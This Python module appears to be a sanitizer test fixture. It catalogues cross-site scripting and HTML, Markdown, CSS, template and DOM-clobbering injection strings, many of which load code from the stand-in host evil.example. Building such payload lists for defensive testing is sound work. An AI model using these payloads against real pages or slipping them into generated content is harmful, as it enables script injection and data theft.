"""Strings that would take the page over, if any of them were ever read as more than text.

Each would set `window.hacked`, open a dialog, ask `http://evil.example`, or move, hide or rename parts of the page.
"""

HACK = "window.hacked=1"
EVIL = "http://evil.example"

SCRIPTS = (
    f"<script>{HACK}</script>",
    f"<ScRiPt>{HACK}</sCrIpT>",
    f"<script\t>{HACK}</script >",
    f"<script/x>{HACK}</script/x>",
    f"<scr\0ipt>{HACK}</scr\0ipt>",
    f"<\0script>{HACK}</script>",
    f"<scr<script>ipt>{HACK}</scr</script>ipt>",
    f"<script src={EVIL}/a.js></script>",
    "<script src=//evil.example/b.js></script>",
    f'<script type="module">import "{EVIL}/c.js"</script>',
    f"</script><script>{HACK}</script>",
    f"<script>{HACK}",
    f'"><script>{HACK}</script>',
    f"'-->]]></textarea></title></style><script>{HACK}</script>",
    f"＜script＞{HACK}＜/script＞",
    f"<script>alert(1);{HACK}</script>",
)

HANDLERS = (
    f"<img src=x onerror={HACK}>",
    f"<IMG SRC=x OnErRoR={HACK}>",
    f"<img/src=x/onerror={HACK}>",
    f"<img src=x onerror\0={HACK}>",
    f'<img src=`x` onerror="{HACK}"//',
    f"<img src=x:alert(1) onerror=eval(src)><img src=x onerror='{HACK}'>",
    f"<image src=x onerror={HACK}>",
    f"<body onload={HACK}>",
    f"<body onpageshow={HACK} onfocus={HACK}>",
    f"<details open ontoggle={HACK}>hello</details>",
    f"<video><source onerror={HACK}></video>",
    f"<audio src=x onerror={HACK}>",
    f"<input autofocus onfocus={HACK}>",
    f"<select autofocus onfocus={HACK}>",
    f"<marquee onstart={HACK}>hello</marquee>",
    f"<p onmouseover={HACK} onpointerenter={HACK} style=position:fixed;inset:0;z-index:9999>hello</p>",
    f"<p tabindex=1 id=x onanimationstart={HACK} style=animation-name:pulse>hello</p>",
    f"<p style=content-visibility:auto oncontentvisibilityautostatechange={HACK}>hello</p>",
    f'" onmouseover="{HACK}" autofocus onfocus="{HACK}" x="',
    f"' onclick='{HACK}' x='",
    f"` onclick=`{HACK}` x=`",
    f"<img src={EVIL}/pixel.png>",
    f"<img srcset='{EVIL}/pixel-2.png 1x'>",
    f"<video poster={EVIL}/poster.png></video>",
    f"<picture><source srcset={EVIL}/picture.png><img src=x></picture>",
)

EMBEDDED = (
    f"<svg onload={HACK}>",
    f"<svg/onload={HACK}//",
    f"<svg><script>{HACK}</script></svg>",
    f"<svg><script href={EVIL}/svg.js /></svg>",
    f"<svg><animate onbegin={HACK} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{HACK}'><text x=20 y=20>hello</text></a></svg>",
    f"<svg><set attributeName=href to='javascript:{HACK}'/></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{HACK}</script></svg>#x'></svg>",
    f"<svg><image href={EVIL}/svg.png></svg>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{HACK}'>hello</maction></math>",
    f"<math href='javascript:{HACK}'>hello</math>",
    f"<iframe src='javascript:{HACK}'></iframe>",
    f"<iframe src={EVIL}/frame></iframe>",
    f"<iframe srcdoc='<script>parent.{HACK}</script>'></iframe>",
    f"<iframe srcdoc=&lt;script&gt;parent.{HACK}&lt;/script&gt;></iframe>",
    f"<object data='javascript:{HACK}'></object>",
    f"<object data={EVIL}/object.swf></object>",
    f"<embed src='data:text/html,<script>parent.{HACK}</script>'>",
    f"<embed src={EVIL}/embed.swf>",
    f"<form action='javascript:{HACK}'><button autofocus>hello</button></form>",
    f"<form action={EVIL}/form><input type=submit></form>",
    f"<button form=x formaction='javascript:{HACK}'>hello</button>",
    f"<base href={EVIL}/base/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/meta'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HACK}'>",
    f"<link rel=stylesheet href={EVIL}/link.css>",
    f"<link rel=prefetch href={EVIL}/prefetch>",
    f"<template shadowrootmode=open><script>{HACK}</script></template>",
    f"<portal src={EVIL}/portal></portal><frameset onload={HACK}>",
    f"<?xml-stylesheet href={EVIL}/x.css?><!DOCTYPE x [<!ENTITY y SYSTEM '{EVIL}/y'>]>",
)

STYLES = (
    "<style>*{display:none!important}</style>",
    f"<style>@import '{EVIL}/import.css';</style>",
    f"<style>#question{{background:url({EVIL}/style.png)}}</style>",
    f"<p style='background:url({EVIL}/inline.png)'>hello</p>",
    "<p style='position:fixed;inset:0;z-index:2147483647;background:red'>hello</p>",
    "</style><style>#chat-side{visibility:hidden}#paper{transform:translate(-9999px)}",
    "}*{display:none}#x{",
    f"expression({HACK});-moz-binding:url({EVIL}/xbl)",
    "<p class='unseen' hidden>hello</p><h1 class='fixed inset-0 z-50'>hello</h1>",
    "<font size=999 color=red>hello</font><plaintext>",
)

LINKS = (
    f"[hello](javascript:{HACK})",
    f"[hello](JaVaScRiPt:{HACK})",
    f"[hello](java\tscript:{HACK})",
    f"[hello](&#106;avascript:{HACK})",
    f"[hello](javascript&colon;{HACK})",
    "[hello](javascript:%77indow.hacked=1)",
    f"[hello](\x01javascript:{HACK})",
    f"[hello](data:text/html,<script>opener.{HACK}</script>)",
    "[hello](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGFja2VkPTE8L3NjcmlwdD4=)",
    "[hello](vbscript:msgbox(1))",
    f"[hello]({EVIL}/link)",
    f"[hello]({EVIL}/title '\" onmouseover={HACK} x=\"')",
    f"![hello]({EVIL}/image.png)",
    f'![" onerror="{HACK}](x)',
    f"![hello](x '\" onerror=\"{HACK}')",
    f"[![hello]({EVIL}/badge.png)](javascript:{HACK})",
    f"<javascript:{HACK}>",
    f"<{EVIL}/autolink>",
    f"{EVIL}/bare?<script>{HACK}</script>",
    "www.evil.example/bare and hacker@evil.example",
    f"[hello][evil] [evil]: javascript:{HACK}",
    f"[evil]: {EVIL}/reference ![evil]",
    f"[^1]: <img src=x onerror={HACK}>",
    f"<a href='javascript:{HACK}'>hello</a>",
    f"<a href='java&#x0A;script:{HACK}'>hello</a>",
    f"<a href={EVIL}/tab target=_blank rel=opener>hello</a>",
    f"<a href=# ping={EVIL}/ping onclick={HACK}>hello</a>",
    f"<area href='javascript:{HACK}' shape=default><map name=x></map>",
    f"[\\[1\\]](#cite-0123456789abcdef-0-9999 '\"><img src=x onerror={HACK}>')",
    f"[1](#cite-0123456789abcdef-0-5'onclick={HACK})",
    f"<a href='#cite-0123456789abcdef-0-5' onclick={HACK} id=question>[1]</a>",
    f"[\\[1\\]]({EVIL}/#cite-0123456789abcdef-0-5)",
)

CODED = (
    f"&lt;script&gt;{HACK}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{HACK}&amp;lt;/script&amp;gt;",
    f"&#60;img src=x onerror={HACK}&#62;",
    f"&#x3c;img src=x onerror={HACK}&#x3E;",
    f"&#0000060;img src=x onerror={HACK}&#0000062",
    f"&ltimg src=x onerror={HACK}&gt",
    "%3Cscript%3Ewindow.hacked=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=window.hacked=1\\x3e",
    f"+ADw-script+AD4-{HACK}+ADw-/script+AD4-",
    f"<img src=x onerror=&#119;indow.hacked=1><img src=x onerror=&#x77;indow['hacked']=1 title={HACK}>",
)

MUTATED = (
    f"<noscript><p title='</noscript><img src=x onerror={HACK}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={HACK}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={HACK}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={HACK}>",
    f"<xmp><p title='</xmp><img src=x onerror={HACK}>'>",
    f"<listing>&lt;img src=x onerror={HACK}&gt;</listing>",
    f"<!--><img src=x onerror={HACK}>-->",
    f"<!--[if gte IE 4]><script>{HACK}</script><![endif]-->",
    f"<![CDATA[<script>{HACK}</script>]]>",
    f"<title><img title='</title><img src=x onerror={HACK}>'>",
    f"<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={HACK}>'>",
    f"<p title='unclosed <img src=x onerror={HACK}>",
    f"<a title=unclosed href=javascript:{HACK} <b <i <u",
    f"```html <img src=x onerror={HACK}> ``` `<svg onload={HACK}>`",
    f"~~~ </code></pre><img src=x onerror={HACK}>",
)

TEMPLATES = (
    f"{{{{constructor.constructor('{HACK}')()}}}}",
    f"{{{{{{{HACK}}}}}}} {{{{#with this}}}}{{{{lookup . 'constructor'}}}}{{{{/with}}}}",
    f"${{{HACK}}}",
    f"`${{{HACK}}}`",
    f"<%= {HACK} %> {{% raw %}} #{{{HACK}}}",
    f"$$\\href{{javascript:{HACK}}}{{hello}}$$",
    f"\\(\\includegraphics{{{EVIL}/latex.png}}\\) \\[\\url{{javascript:{HACK}}}\\]",
    "$\\def\\x{\\x\\x}\\x$ $\\rule{9999em}{9999em}$",
    f"$$\\htmlData{{onclick={HACK}}}{{hello}} \\htmlStyle{{position:fixed}}{{hello}}$$",
    f"```mermaid graph TD; A-->B; click A call {HACK} ```",
)

RENAMED = (
    "<p id=paper>hello</p><p id=question>hello</p><p id=said>hello</p>",
    f"<a id=articleQA></a><a id=articleQA name=show href='javascript:{HACK}'>hello</a>",
    "<form name=articleQA><input name=show></form>",
    "<img name=querySelector><img name=getElementById><form id=document><input id=body></form>",
    "<input name=gradio_config id=gradio_config value=x>",
    "<gradio-app src=http://evil.example/app></gradio-app>",
    "<div class='message bot' data-testid=bot><small>0.01 s · quoted from 1 sentence</small></div>",
    f"<div id=chat><button aria-label=Clear onclick={HACK}>hello</button></div>",
    '</p></div></div><div role="alertdialog" aria-modal="true" class="toast-wrap">Sign in again</div>',
    '{"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}, "component": "html", "value": "<script>"}',
    "__proto__ constructor prototype hasOwnProperty toString",
)

STRETCHED = (
    "\u202egnp.exe \u202d\u2066<script>\u2069 hello",
    "\u202e<img src=x onerror=window.hacked=1>\u202c hello",
    "مرحبا <img src=x onerror=window.hacked=1> שלום [hello](javascript:window.hacked=1)",
    f"<img alt='{'A' * 200}' src=x onerror={HACK}>",
    f"<p {'x=1 ' * 60}onmouseover={HACK}>",
    f"{'<b>' * 60}<img src=x onerror={HACK}>",
    f"{'[' * 80}hello{'](x)' * 40}",
    f"{'> ' * 40}<svg onload={HACK}>",
    f"<img src=x one\u0301rror={HACK} \U0001f600 onerror={HACK}>",
    f"<\ufeffscript>{HACK}</\u200bscript>",
    f"<img\u2028src=x\u2029onerror={HACK}>",
)

PAYLOADS = SCRIPTS + HANDLERS + EMBEDDED + STYLES + LINKS + CODED + MUTATED + TEMPLATES + RENAMED + STRETCHED


def batches(most: int, between: str = "\n", *, backwards: bool = False) -> list[str]:
    """All the strings, put together into texts of at most so many characters each, in either order."""
    made = [""]
    for payload in reversed(PAYLOADS) if backwards else PAYLOADS:
        if made[-1] and len(made[-1]) + len(between) + len(payload) > most:
            made.append("")
        made[-1] += between * bool(made[-1]) + payload
    return made
